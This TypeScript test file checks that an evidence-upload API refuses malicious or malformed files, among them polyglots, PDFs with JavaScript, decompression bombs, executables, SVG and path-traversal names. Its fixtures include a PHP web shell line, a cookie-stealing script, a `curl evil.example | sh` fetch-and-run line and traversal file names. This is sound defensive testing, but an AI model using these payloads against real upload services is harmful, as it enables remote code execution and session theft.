import { randomBytes } from 'node:crypto'
import path from 'node:path'
import { crc32 } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { startTestApp } from '../../test/harness.js'
import { systemContext } from '../auth/actor.js'
import { openCase } from '../cases/service.js'
import { sanitiseFileName } from './service/file-checks.js'
import { filesUnder, multipart, pdf, photoJpeg, photoPng, zip } from './testing.js'

// The corpus of bad files, each built here from a small real sample, each refused with its own code, and none
// leaving a row or a blob behind. The global cap is lowered so "oversize" stays small.
const globalCap = 3 * 1024 * 1024
const { env, app, m, call } = await startTestApp({ config: { filesMaxBytes: globalCap } })
const db = env.ctx.db
const blobRoot = path.join(env.ctx.config.dataDir, 'files')
const caseId = (
  await db
    .transaction()
    .execute((trx) => openCase(trx, systemContext(m.id), { caseType: 'damaged', subject: 'Bad files' }, new Date()))
).id

const rowCount = async () =>
  Number(
    (
      await db
        .selectFrom('evidence_items')
        .select(db.fn.countAll().as('n'))
        .where('merchant_id', '=', m.id)
        .executeTakeFirstOrThrow()
    ).n,
  )

async function expectRefused(
  type: string,
  file: { name: string; data: Buffer; contentType?: string },
  status: number,
  code: string,
  details?: Record<string, unknown>,
) {
  const [rows, files] = [await rowCount(), await filesUnder(blobRoot)]
  const body = multipart({ type }, file)
  const res = await app.inject({
    method: 'POST',
    url: `/api/v1/cases/${caseId}/evidence`,
    headers: { ...body.headers, authorization: `Bearer ${m.keys.admin}` },
    payload: body.payload,
  })
  expect([res.statusCode, res.json().error?.code], res.body).toEqual([status, code])
  if (details) expect(res.json().error.details).toMatchObject(details)
  expect(await rowCount()).toBe(rows)
  expect(await filesUnder(blobRoot)).toEqual(files)
  const kase = await db.selectFrom('cases').select('evidence_count').where('id', '=', caseId).executeTakeFirstOrThrow()
  expect(kase.evidence_count).toBe(0)
}

/** A real PNG whose header claims other dimensions (its CRC fixed, so decoders believe it). */
async function pngClaiming(width: number, height: number) {
  const png = Buffer.from(await photoPng(8, 8))
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29)
  return png
}

const elf = () => {
  const b = Buffer.alloc(128)
  Buffer.from('\x7fELF\x02\x01\x01', 'latin1').copy(b)
  b.writeUInt16LE(2, 16) // ET_EXEC
  b.writeUInt16LE(0x3e, 18) // x86-64
  return b
}
const pe = () => {
  const b = Buffer.alloc(256)
  b.write('MZ', 0, 'latin1')
  b.writeUInt32LE(0x80, 0x3c)
  b.write('PE\0\0', 0x80, 'latin1')
  return b
}

describe('the bad-file corpus', () => {
  it('refuses a zero-byte file', async () => {
    await expectRefused('damage_photo', { name: 'empty.jpg', data: Buffer.alloc(0) }, 400, 'file_empty')
  })

  it("refuses a file over its type's limit with 413", async () => {
    const res = await call('POST', '/evidence/types', {
      key: 'tiny_photo',
      label: 'Tiny',
      kind: 'photo',
      max_bytes: 2000,
    })
    expect(res.statusCode, res.body).toBe(201)
    await expectRefused('tiny_photo', { name: 'big.jpg', data: await photoJpeg(200, 200) }, 413, 'file_too_large', {
      max_bytes: 2000,
    })
  })

  it('refuses a PDF over the global cap (FILES_MAX_BYTES) with 413, having streamed part of it', async () => {
    const big = Buffer.concat([Buffer.from('%PDF-1.7\n%'), randomBytes(globalCap + 1000), Buffer.from('\n%%EOF\n')])
    await expectRefused('invoice', { name: 'big.pdf', data: big }, 413, 'file_too_large', { max_bytes: globalCap })
  })

  it('refuses a file whose bytes are not of a kind its type accepts, whatever its name and header say', async () => {
    await expectRefused(
      'damage_photo',
      { name: 'photo.jpg', data: await pdf(), contentType: 'image/jpeg' },
      415,
      'unsupported_file_type',
      { reason: 'type_mismatch', content_type: 'application/pdf' },
    )
    await expectRefused(
      'damage_photo',
      { name: 'page.jpg', data: Buffer.from('<html><body>hi</body></html>'), contentType: 'image/jpeg' },
      415,
      'unsupported_file_type',
      { reason: 'type_mismatch' },
    )
  })

  it('refuses a JPEG with a ZIP appended', async () => {
    const data = Buffer.concat([await photoJpeg(), await zip({ 'evil.txt': 'payload' })])
    await expectRefused('damage_photo', { name: 'a.jpg', data }, 422, 'file_polyglot')
  })

  it('refuses a JPEG with PHP appended', async () => {
    const data = Buffer.concat([await photoJpeg(), Buffer.from('<?php system($_GET["c"]); ?>')])
    await expectRefused('damage_photo', { name: 'a.jpg', data }, 422, 'file_polyglot', { found: '<?php' })
  })

  it('refuses a JPEG with an HTML page and script appended', async () => {
    const data = Buffer.concat([await photoJpeg(), Buffer.from('<html><script>alert(document.cookie)</script></html>')])
    await expectRefused('damage_photo', { name: 'a.jpg', data }, 422, 'file_polyglot')
  })

  it('refuses a GIFAR-style image: a PNG with a Java archive appended', async () => {
    const jar = await zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'Evil.class': randomBytes(64) })
    await expectRefused(
      'damage_photo',
      { name: 'a.png', data: Buffer.concat([await photoPng(), jar]) },
      422,
      'file_polyglot',
    )
  })

  it('refuses a PDF with JavaScript', async () => {
    await expectRefused(
      'invoice',
      { name: 'inv.pdf', data: await pdf({ javascript: true }) },
      422,
      'file_active_content',
      {
        found: '/JavaScript',
      },
    )
  })

  it('refuses a PDF with a ZIP after its end', async () => {
    const data = Buffer.concat([await pdf(), await zip({ 'x.txt': 'hidden' })])
    await expectRefused('invoice', { name: 'inv.pdf', data }, 422, 'file_polyglot')
  })

  it('refuses a truncated JPEG, a truncated PNG and a truncated PDF', async () => {
    const jpeg = await photoJpeg(128, 128)
    await expectRefused(
      'damage_photo',
      { name: 'a.jpg', data: jpeg.subarray(0, jpeg.length >> 1) },
      422,
      'file_corrupt',
    )
    const png = await photoPng(64, 64)
    await expectRefused('damage_photo', { name: 'a.png', data: png.subarray(0, png.length - 20) }, 422, 'file_corrupt')
    const doc = await pdf()
    await expectRefused('invoice', { name: 'a.pdf', data: doc.subarray(0, doc.length - 200) }, 422, 'file_corrupt')
  })

  it('refuses an image whose pixels do not decode though its structure is whole', async () => {
    const png = Buffer.from(await photoPng(16, 16))
    const idat = png.indexOf('IDAT')
    png.fill(0x41, idat + 4, idat + 20) // the compressed pixels, garbled; the CRC no longer matches
    await expectRefused('damage_photo', { name: 'a.png', data: png }, 422, 'file_corrupt')
  })

  it('refuses a decompression bomb by its pixel count, before decoding it', async () => {
    await expectRefused(
      'damage_photo',
      { name: 'bomb.png', data: await pngClaiming(10_000, 10_000) },
      422,
      'file_pixel_limit',
      {
        max_pixels: 50_000_000,
      },
    )
  })

  it('refuses archives: ZIP, gzip, RAR and 7-Zip', async () => {
    const { gzipSync } = await import('node:zlib')
    const samples = [
      await zip({ 'a.jpg': await photoJpeg() }),
      gzipSync(await photoJpeg()),
      Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), randomBytes(64)]),
      Buffer.concat([Buffer.from('7z\xbc\xaf\x27\x1c\x00\x04', 'latin1'), randomBytes(64)]),
    ]
    for (const data of samples)
      await expectRefused('other', { name: 'photos.jpg', data }, 415, 'unsupported_file_type', { reason: 'archive' })
  })

  it('refuses executables: ELF, PE, Mach-O and shebang scripts', async () => {
    const macho = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(64)])
    for (const data of [elf(), pe(), macho, Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')])
      await expectRefused('other', { name: 'invoice.pdf', data }, 415, 'unsupported_file_type', {
        reason: 'executable',
      })
  })

  it('refuses SVG, with or without script', async () => {
    const plain = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>'
    const scripted = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for (const svg of [plain, scripted])
      await expectRefused(
        'damage_photo',
        { name: 'a.svg', data: Buffer.from(svg), contentType: 'image/svg+xml' },
        415,
        'unsupported_file_type',
        {
          reason: 'svg',
        },
      )
  })

  it('refuses a name that is nothing but path segments', async () => {
    for (const name of ['..', '../..', './.', '/../\u0000'])
      await expectRefused('damage_photo', { name, data: await photoPng() }, 400, 'file_name_invalid')
    // Windows paths too (a quoted multipart name cannot carry a bare backslash, so the function is asked directly).
    expect(() => sanitiseFileName('..\\..\\', 'x')).toThrow(expect.objectContaining({ code: 'file_name_invalid' }))
    expect(sanitiseFileName('C:\\Users\\sam\\IMG 1.jpg', 'x')).toBe('IMG 1.jpg')
  })
})
